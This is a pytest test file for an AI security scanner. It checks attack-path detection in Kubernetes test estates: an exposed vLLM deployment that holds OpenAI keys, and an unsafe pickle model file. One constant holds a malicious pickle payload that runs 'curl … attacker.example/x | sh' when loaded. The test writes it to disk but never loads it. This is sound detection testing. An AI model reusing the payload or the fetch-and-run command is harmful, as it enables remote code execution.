"""Attack paths through Kubernetes workloads (reference §2.4, estates 9 and 10), scanned end to end
as `test_estates.py` does for Azure: each estate under `estates/k8s-<nn>-<slug>/` is a small
repository of manifests (rendered Helm output) in two variants — `found/`, where aispm finds the
path through exactly the expected steps, confirmed; `broken/`, the same files with one change,
where no path links that entry to that target any more.

- `k8s-09`: a vLLM Deployment (no `--api-key`) behind a `LoadBalancer` Service, with an OpenAI key in
  a plain `env` value, running as a service account whose Role reads the namespace's Secrets — one
  of which holds another OpenAI key. Two paths from the exposed workload to OpenAI: through the
  plain key it `contains`, and through its identity (`runs_as` → `has_role_on` the Secret →
  `holds_key_for`). Broken: the Service is `ClusterIP`.
- `k8s-10`: an unsafe model file (a pickle that imports `os.system`) named by a Deployment's
  command line → the Deployment (`loaded_by`) → its service account → the Secret its Role reads →
  OpenAI. The model file is written by the test into a copy of the estate (never loaded); broken:
  the same manifests with a pickle that only builds a dict.

Assets are matched by where they are declared (`origin.file`, `origin.address`).
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path

import pytest

from aispm.model import Asset, AttackPath, ScanResult
from aispm.scan import scan
from estate_harness import ESTATES, At, listing

K9 = "deploy/llm.yaml"


@dataclass(frozen=True)
class Case:
    estate: str
    name: str
    entry_kind: str
    target_kind: str
    steps: tuple[tuple[At, str | None], ...]
    broken_by: str
    title_has: tuple[str, ...] = ()
    risk_factors: frozenset[str] = frozenset()

    @property
    def entry(self) -> At:
        return self.steps[0][0]

    @property
    def target(self) -> At:
        return self.steps[-1][0]

    def __str__(self) -> str:
        return f"{self.estate}:{self.name}"


OPENAI = At(K9, "openai")  # the code linker's external-service asset, named after the service
CASES = (
    Case("k8s-09-exposed-vllm-plain-key", "plain-env-key", "internet-exposed-compute", "external-service",
         steps=((At(K9, "Deployment/ai/chat-llm"), None),
                (At(K9, "line 89:secret openai-api-key"), "contains"),
                (OPENAI, "holds_key_for")),
         broken_by="the Service is type ClusterIP instead of LoadBalancer",
         title_has=("Widely internet-exposed Kubernetes Deployment chat-llm contains secret openai-api-key sk-p…L2",
                    "holds a key to service openai"),
         risk_factors=frozenset({"internet-exposure", "secrets"})),
    Case("k8s-09-exposed-vllm-plain-key", "service-account", "internet-exposed-compute", "external-service",
         steps=((At(K9, "Deployment/ai/chat-llm"), None),
                (At(K9, "ServiceAccount/ai/chat-llm"), "runs_as"),
                (At(K9, "Secret/ai/openai-fallback"), "has_role_on"),
                (OPENAI, "holds_key_for")),
         broken_by="the Service is type ClusterIP instead of LoadBalancer",
         title_has=("runs as Kubernetes service account chat-llm, which has role chat-llm-config on Kubernetes "
                    "Secret openai-fallback",),
         risk_factors=frozenset({"internet-exposure", "permissions", "secrets"})),
)


K10 = "deploy/sentiment.yaml"
MODEL = "models/sentiment.pkl"
#: Pickle opcodes (protocol 0), written as bytes and never loaded: `os.system('curl … | sh')` when
#: unpickled, and a plain dict of weights.
UNSAFE_PICKLE = b"cos\nsystem\n(S'curl -s http://attacker.example/x | sh'\ntR."
SAFE_PICKLE = b"(dp0\nS'weights'\np1\n(lp2\nF0.5\naF0.25\nas."
MODEL_CASE = Case("k8s-10-unsafe-model-served", "model-to-key", "unsafe-model", "external-service",
                  steps=((At(MODEL, MODEL), None),
                         (At(K10, "Deployment/ml/sentiment"), "loaded_by"),
                         (At(K10, "ServiceAccount/ml/sentiment"), "runs_as"),
                         (At(K10, "Secret/ml/openai"), "has_role_on"),
                         (At(K10, "openai"), "holds_key_for")),
                  broken_by="the model file is a pickle that only builds a dict",
                  title_has=("Unsafe", "is loaded by", "runs as", "holds a key to service openai"),
                  risk_factors=frozenset({"unsafe-model", "permissions", "secrets"}))


@lru_cache(maxsize=None)
def _scan(estate: str, variant: str) -> ScanResult:
    if estate == MODEL_CASE.estate:
        return _scan_with_model(variant)
    root = ESTATES / estate / variant
    assert root.is_dir(), root
    return scan([str(root)])


def _scan_with_model(variant: str) -> ScanResult:
    import shutil
    import tempfile

    root = Path(tempfile.mkdtemp(prefix="aispm-k8s-10-")) / variant
    shutil.copytree(ESTATES / MODEL_CASE.estate / variant, root)
    (root / "models").mkdir()
    (root / MODEL).write_bytes(UNSAFE_PICKLE if variant == "found" else SAFE_PICKLE)
    try:
        return scan([str(root)])
    finally:
        shutil.rmtree(root.parent, ignore_errors=True)


def find_asset(r: ScanResult, at: At) -> Asset | None:
    if at is OPENAI or at.address == "openai":
        return next((a for a in r.assets if a.uid == "external:openai"), None)
    hits = [a for a in r.assets if at.matches(a)]
    assert len(hits) <= 1, f"{at} matches {len(hits)} assets"
    return hits[0] if hits else None


def between(r: ScanResult, entry: At, target: At) -> list[AttackPath]:
    e, t = find_asset(r, entry), find_asset(r, target)
    if e is None or t is None:
        return []
    return [p for p in r.attack_paths if p.entry == e.uid and p.target == t.uid]


def test_every_k8s_estate_has_found_and_broken_and_a_case():
    on_disk = sorted(p.name for p in ESTATES.iterdir() if p.is_dir() and p.name.startswith("k8s-"))
    assert on_disk == sorted({c.estate for c in ALL})
    for name in on_disk:
        assert (ESTATES / name / "found").is_dir() and (ESTATES / name / "broken").is_dir(), name


ALL = (*CASES, MODEL_CASE)


@pytest.mark.parametrize("case", ALL, ids=str)
def test_found(case: Case):
    r = _scan(case.estate, "found")
    assert r.errors == [], r.errors
    for at, _ in case.steps:
        assert find_asset(r, at) is not None, f"{at} not in the scan"
    paths = between(r, case.entry, case.target)
    want = [(find_asset(r, at).uid, verb) for at, verb in case.steps]
    exact = [p for p in paths if [(s.asset_uid, s.verb) for s in p.steps] == want]
    assert len(exact) == 1, (want, listing(r))
    p = exact[0]
    assert p.status == "confirmed" and p.unknowns == [], (p.status, p.unknowns)
    assert p.entry_kind == case.entry_kind and p.target_kind == case.target_kind, (p.entry_kind, p.target_kind)
    for words in case.title_has:
        assert words in p.title, p.title
    assert case.risk_factors <= set(p.risk_factors), p.risk_factors
    assert p.remediation and 0 < p.score <= 100
    if case.target_kind == "external-service" and case.entry_kind != "unsafe-model":
        # the key's service is outside the estate: the fix is the key, not the service's settings
        assert p.remediation.startswith("rotate the keys to service openai"), p.remediation


@pytest.mark.parametrize("case", ALL, ids=str)
def test_broken(case: Case):
    r = _scan(case.estate, "broken")
    assert r.errors == [], r.errors
    assert find_asset(r, case.entry) is not None and find_asset(r, case.target) is not None
    assert between(r, case.entry, case.target) == [], listing(r)


def test_09_asset_exposure_and_redacted_secret_finding():
    """What a user reads for estate 9: the AI workload, its exposure and the failing rules, and the
    key reported redacted — nowhere in the report in clear."""
    r = _scan("k8s-09-exposed-vllm-plain-key", "found")
    wl = find_asset(r, At(K9, "Deployment/ai/chat-llm"))
    assert wl.type == "k8s:apps/Deployment" and wl.properties["helmSource"] == "chat-llm/templates/deployment.yaml"
    assert wl.facts["ai_server"] == "vllm" and wl.facts["user_authentication"] is False
    assert wl.facts["internet_exposed"] is True and wl.facts["exposure_width"] == "wide"
    assert "exposed_to_internet" in wl.insights
    failing = {f.rule_id for f in r.findings if f.asset_uid == wl.uid and str(f.status) == "fail"}
    assert {"AISPM-K8S-001", "AISPM-K8S-002", "AISPM-K8S-008"} <= failing, failing
    secret = find_asset(r, At(K9, "line 89:secret openai-api-key"))
    assert secret.properties["redacted"] == "sk-p…L2"
    assert any(f.asset_uid == secret.uid and str(f.status) == "fail" for f in r.findings)
    from aispm.report.json import render

    text = render(r)
    assert "sk-proj-Ab3dE5gH7jK9mN1pQ3rS5tU7vW9xY1zA2bC4dE6fG8hJ0kL2" not in text
    assert "c2stcHJvai1RejhtTjNwTDVrUjd0Vjl4QjJkRjRoSjZ3WTFjQTNlRzVpSzdtTzlxUzF1VzN5WjU=" not in text
    # the key is one secret asset, not one per source that read the file
    assert sum(1 for a in r.assets if a.type == "secret") == 1


def test_09_broken_workload_is_not_exposed():
    r = _scan("k8s-09-exposed-vllm-plain-key", "broken")
    wl = find_asset(r, At(K9, "Deployment/ai/chat-llm"))
    assert wl.facts["internet_exposed"] is False
    k001 = [f for f in r.findings if f.rule_id == "AISPM-K8S-001" and f.asset_uid == wl.uid]
    assert [str(f.status) for f in k001] == ["pass"]


def test_10_the_model_is_an_unsafe_entry_only_in_found():
    found, broken = _scan(MODEL_CASE.estate, "found"), _scan(MODEL_CASE.estate, "broken")
    model = find_asset(found, At(MODEL, MODEL))
    assert model.type == "machine-learning-model" and model.facts["unsafe_imports"]
    assert find_asset(broken, At(MODEL, MODEL)).facts["unsafe_imports"] == []
    wl = find_asset(found, At(K10, "Deployment/ml/sentiment"))
    assert ("uses_model", model.uid) in {(x.verb, x.target) for x in found.relations if x.source == wl.uid}
    p = next(p for p in found.attack_paths if p.entry == model.uid)
    assert p.remediation.startswith("replace machine-learning-model") or "safetensors" in p.remediation, p.remediation
